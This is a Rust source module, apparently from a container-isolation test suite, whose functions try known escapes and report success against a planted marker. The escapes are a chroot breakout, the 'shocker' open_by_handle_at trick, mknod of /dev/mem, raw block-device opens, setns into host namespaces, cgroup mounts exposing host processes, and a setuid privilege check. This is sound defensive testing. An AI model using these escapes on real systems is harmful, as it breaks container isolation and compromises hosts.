//! How attempts reach for things: what several of them have in common, and what takes more than a line.

use std::fs::{self, File, OpenOptions};
use std::io::{self, ErrorKind, Read};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use nix::libc;

use crate::attempts::Tried;
use crate::outside::{Outside, VOLUME};
use crate::system::{call, call_path, in_new_namespaces, text};

pub fn opened(file: io::Result<File>) -> Tried {
    file.map(|file| format!("{:?}", fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd())).unwrap_or_default()))
}

pub fn one(mut found: impl Iterator<Item = String>) -> Tried {
    found.next().ok_or_else(|| io::Error::from(ErrorKind::NotFound))
}

pub fn open_write(path: &str) -> Tried {
    opened(OpenOptions::new().write(true).open(path))
}

/// The first file below that can be opened for writing.
pub fn open_write_below(folder: &str) -> Tried {
    open_write_below_but(folder, |_| false)
}

/// Leaves out the files of processes, and those that check capabilities at the write.
pub fn open_write_in_proc() -> Tried {
    use std::os::unix::fs::{FileTypeExt, PermissionsExt};
    open_write_below_but("/proc", |path| {
        let name = path.strip_prefix("/proc").ok().and_then(|rest| rest.iter().next()).unwrap_or_default();
        let name = name.to_string_lossy();
        let is_left_out = |found: fs::Metadata| {
            // Hidden files are /dev/null, and root can open a file for writing that has no write operation.
            let is_for_nothing = found.is_file() && found.permissions().mode() & 0o222 == 0;
            found.file_type().is_char_device() || is_for_nothing
        };
        let is_of_processes = name.parse::<u32>().is_ok() || path.is_symlink();
        is_of_processes || ["pressure", "mtrr"].contains(&&*name) || fs::metadata(path).is_ok_and(is_left_out)
    })
}

fn open_write_below_but(folder: &str, is_left_out: fn(&Path) -> bool) -> Tried {
    let mut folders = vec![PathBuf::from(folder)];
    let mut refused = io::Error::from(ErrorKind::NotFound);
    // Links of sysfs lead round in circles.
    for _ in 0..200 {
        let Some(folder) = folders.pop() else { break };
        let paths = fs::read_dir(&folder).into_iter().flatten().flatten().map(|entry| entry.path());
        for path in paths.filter(|path| !is_left_out(path)) {
            match fs::metadata(&path) {
                Ok(metadata) if metadata.is_dir() => folders.insert(0, path),
                Ok(_) => match OpenOptions::new().write(true).custom_flags(libc::O_NONBLOCK).open(&path) {
                    Ok(_) => return Ok(path.display().to_string()),
                    Err(e) => refused = e,
                },
                Err(_) => {}
            }
        }
    }
    Err(refused)
}

pub fn read(path: &str) -> Tried {
    // Pages of memory are told in eight bytes each.
    let mut bytes = [0; 8];
    match File::open(path)?.read(&mut bytes)? {
        0 => Err(io::Error::new(ErrorKind::UnexpectedEof, "it is empty")),
        _ => Ok(path.to_owned()),
    }
}

pub fn list(path: &str) -> Tried {
    one(fs::read_dir(path)?.flatten().map(|entry| entry.path().display().to_string()))
}

pub fn mount(source: &str, on: &str, kind: &str, flags: libc::c_ulong) -> Tried {
    mount_with(source, on, kind, flags, "")
}

pub fn mount_with(source: &str, on: &str, kind: &str, flags: libc::c_ulong, options: &str) -> Tried {
    let (source, on, kind, options) = (text(source)?, text(on)?, text(kind)?, text(options)?);
    let [source, point, kind, options] = [&source, &on, &kind, &options].map(|text| text.as_ptr() as usize);
    call(libc::SYS_mount, [source, point, kind, flags as usize, options, 0]).map(|_| format!("mounted {on:?}"))
}

pub fn unmount(path: &str) -> Tried {
    call_path(libc::SYS_umount2, path, [libc::MNT_DETACH as usize, 0, 0, 0]).map(|_| path.to_owned())
}

/// A file system of its own: without what was hidden or made read-only in the container's.
pub fn fresh(kind: &str, own: libc::c_int) -> Tried {
    in_new_namespaces(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | own)?;
    mount(kind, "/tmp", kind, 0)
}

/// Any hierarchy of cgroup v1 on `/tmp`.
pub fn mount_v1() -> Tried {
    let mut last = io::Error::from(ErrorKind::NotFound);
    for options in ["memory", "cpu,cpuacct", "pids", "cpuset", "devices", "freezer", "blkio"] {
        match mount_with("none", "/tmp", "cgroup", 0, options) {
            Ok(_) => return Ok("a hierarchy".to_owned()),
            Err(e) => last = e,
        }
    }
    Err(last)
}

/// The mount of a device that is the host's: mounted from elsewhere, or in the kernel's own `/dev`.
pub fn hosts_device(path: &str) -> Tried {
    use std::os::unix::fs::MetadataExt;
    let device = fs::metadata(path)?.dev();
    let number = format!("{}:{}", libc::major(device), libc::minor(device));
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    let is_hosts = |line: &&str| {
        let words: Vec<_> = line.split(' ').collect();
        let is_kernels = || words[4] == "/dev" && line.contains(" - devtmpfs ");
        words[2] == number && (words[4] == path || is_kernels())
    };
    let mount = mounts.lines().find(is_hosts).map(str::to_owned);
    mount.ok_or_else(|| io::Error::other("it is the container's own"))
}

/// A hierarchy in which a container has no group of its own shows the group of its starter: with processes that have no number
/// inside, which could be killed, frozen and left in groups.
pub fn strangers_by_cgroup(outside: &Outside) -> Tried {
    in_new_namespaces(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | libc::CLONE_NEWCGROUP)?;
    let groups = fs::read_to_string("/proc/self/cgroup")?;
    let mut last = io::Error::from(ErrorKind::NotFound);
    for controllers in groups.lines().filter_map(|line| line.split(':').nth(1)) {
        let kind = if controllers.is_empty() { "cgroup2" } else { "cgroup" };
        if let Err(e) = mount_with("none", "/tmp", kind, 0, controllers) {
            last = e;
            continue;
        }
        if let Some(process) = stranger_below(Path::new("/tmp"), outside) {
            return Ok(format!("{process} by `{controllers}`"));
        }
        unmount("/tmp")?;
        last = io::Error::other("only its own groups");
    }
    Err(last)
}

pub fn stranger_below(folder: &Path, outside: &Outside) -> Option<String> {
    let processes = fs::read_to_string(folder.join("cgroup.procs")).unwrap_or_default();
    let stranger = processes.lines().find(|pid| *pid == "0" || is_process(outside, pid));
    let below = || fs::read_dir(folder).ok()?.flatten().find_map(|entry| stranger_below(&entry.path(), outside));
    stranger.map(|pid| format!("process {pid}")).or_else(below)
}

/// While the starter runs nobody can write to it (ETXTBSY): what counts is whether its mount or its file allows it afterwards.
pub fn starter_is_writable() -> Tried {
    use nix::fcntl::{FcntlArg, SealFlag, fcntl};
    use nix::sys::statvfs::{FsFlags, fstatvfs};
    use std::os::unix::fs::MetadataExt;
    let identity = |path: &str| fs::metadata(path).map(|metadata| (metadata.dev(), metadata.ino()));
    if identity("/proc/1/exe")? == identity("/proc/self/exe")? {
        return Err(io::Error::other("process 1 is this program, and no starter"));
    }
    let executable = File::open("/proc/1/exe")?;
    if fstatvfs(&executable)?.flags().contains(FsFlags::ST_RDONLY) {
        return Err(nix::Error::EROFS.into());
    }
    let seals = fcntl(&executable, FcntlArg::F_GET_SEALS).map_or(SealFlag::empty(), SealFlag::from_bits_retain);
    let no_writes = SealFlag::F_SEAL_WRITE | SealFlag::from_bits_retain(libc::F_SEAL_FUTURE_WRITE);
    if seals.intersects(no_writes) {
        return Err(nix::Error::EPERM.into());
    }
    Ok(fs::read_link("/proc/1/exe")?.display().to_string())
}

pub fn leaked(folder: &str, own: bool) -> Tried {
    let entries: Vec<_> = fs::read_dir(folder)?.flatten().map(|entry| entry.path()).collect();
    let number = |path: &Path| path.file_name()?.to_str()?.parse::<u32>().ok();
    let target = |path: PathBuf| Some(format!("{} -> {}", path.display(), fs::read_link(&path).ok()?.display()));
    // The folder that is being read is open, and gone when it is looked at.
    let is_reading = |text: &String| own && text.contains(&format!("-> /proc/{}/fd", std::process::id()));
    one(entries
        .into_iter()
        .filter(|path| number(path).is_some_and(|number| number > 2))
        .filter_map(target)
        .filter(|text| !is_reading(text)))
}

pub fn marker_below(outside: &Outside, root: &str) -> Tried {
    let path = format!("{root}{}", outside.marker.display());
    fs::read_to_string(&path)
        .and_then(|text| if text == outside.token { Ok(path) } else { Err(ErrorKind::NotFound.into()) })
}

/// The classic: a root below the working directory, and up.
pub fn leave_root(outside: &Outside) -> Tried {
    let folder = "/tmp/root";
    match fs::create_dir(folder) {
        Err(e) if e.kind() != ErrorKind::AlreadyExists => return Err(e),
        _ => {}
    }
    call_path(libc::SYS_chroot, folder, [0; 4])?;
    (0..64).try_for_each(|_| std::env::set_current_dir(".."))?;
    call_path(libc::SYS_chroot, ".", [0; 4])?;
    marker_below(outside, "")
}

pub fn make_device(path: &str) -> Tried {
    let memory = libc::makedev(1, 5) as usize;
    call_path(libc::SYS_mknod, path, [(libc::S_IFCHR | 0o666) as usize, memory, 0, 0])?;
    opened(File::open(path))
}

/// Any block device that the kernel has.
pub fn open_disk() -> Tried {
    let mut refused = io::Error::from(ErrorKind::NotFound);
    for entry in fs::read_dir("/sys/class/block")?.flatten() {
        match File::open(Path::new("/dev").join(entry.file_name())) {
            Ok(file) => return opened(Ok(file)),
            Err(e) => refused = e,
        }
    }
    Err(refused)
}

pub fn is_process(outside: &Outside, process: &str) -> bool {
    let words = format!("sleep\0{}\0", outside.process);
    fs::read(format!("/proc/{process}/cmdline")).is_ok_and(|line| line == words.as_bytes())
}

pub fn see_process(outside: &Outside) -> Tried {
    let names = fs::read_dir("/proc")?.flatten().filter_map(|entry| entry.file_name().into_string().ok());
    one(names.filter(|name| name.parse::<u32>().is_ok() && is_process(outside, name)))
}

/// The same number inside may be another process.
pub fn on_process(outside: &Outside, done: io::Result<i64>) -> Tried {
    done?;
    let process = outside.pid.to_string();
    if is_process(outside, &process) { Ok(process) } else { Err(io::Error::from_raw_os_error(libc::ESRCH)) }
}

pub fn enter_namespaces() -> Tried {
    let mut refused = io::Error::from(ErrorKind::NotFound);
    for kind in ["user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"] {
        let entered = File::open(format!("/proc/1/ns/{kind}"))
            .and_then(|file| call(libc::SYS_setns, [file.as_raw_fd() as usize, 0, 0, 0, 0, 0]));
        match entered {
            Ok(_) => return Ok(kind.to_owned()),
            Err(e) => refused = e,
        }
    }
    Err(refused)
}

/// Any file of a file system, also outside of the root: the attack that was called shocker.
pub fn by_handle() -> Tried {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        content: [u8; 128],
    }
    // The volume is a part of a file system of the host.
    let mount = File::open(VOLUME)?;
    let mut handle = Handle { bytes: 128, kind: 0, content: [0; 128] };
    let mut id = 0_i32;
    let (empty, at) = (text("")?, &raw mut handle as usize);
    let flags = libc::AT_EMPTY_PATH as usize;
    let name = [mount.as_raw_fd() as usize, empty.as_ptr() as usize, at, &raw mut id as usize, flags, 0];
    call(libc::SYS_name_to_handle_at, name)?;
    call(libc::SYS_open_by_handle_at, [mount.as_raw_fd() as usize, at, 0, 0, 0, 0]).map(|_| "a folder".to_owned())
}

/// As somebody else, execute the setuid copy of this program in the volume; it says who it is.
pub fn setuid_program() -> Tried {
    let somebody = nix::unistd::Uid::from_raw(1000);
    nix::unistd::setgroups(&[])?;
    nix::unistd::setresgid(
        nix::unistd::Gid::from_raw(1000),
        nix::unistd::Gid::from_raw(1000),
        nix::unistd::Gid::from_raw(1000),
    )?;
    nix::unistd::setresuid(somebody, somebody, somebody)?;
    let output = std::process::Command::new(Path::new(VOLUME).join("setuid")).arg("who").output()?;
    match String::from_utf8_lossy(&output.stdout).trim() {
        "0" => Ok("user 0".to_owned()),
        other => Err(io::Error::other(format!("still user {other}"))),
    }
}

/// Docker's fourteen but MKNOD, NET_RAW and AUDIT_WRITE.
const DEFAULT: u64 = 0x8004_05fb;

pub fn more_capabilities() -> Tried {
    let status = fs::read_to_string("/proc/self/status")?;
    let sets = status.lines().filter(|line| line.starts_with("Cap"));
    let beyond = |line: &&str| {
        let set = line.split_whitespace().nth(1).and_then(|set| u64::from_str_radix(set, 16).ok());
        set.is_none_or(|set| set & !DEFAULT != 0)
    };
    one(sets.filter(beyond).map(str::to_owned))
}

/// Who has the privilege fails otherwise: with this error.
pub fn only_privilege(done: io::Result<i64>, privileged: i32) -> Tried {
    match done {
        Ok(_) => Ok("done".to_owned()),
        Err(e) if e.raw_os_error() == Some(privileged) => Ok(format!("it was tried: {e}")),
        Err(e) => Err(e),
    }
}
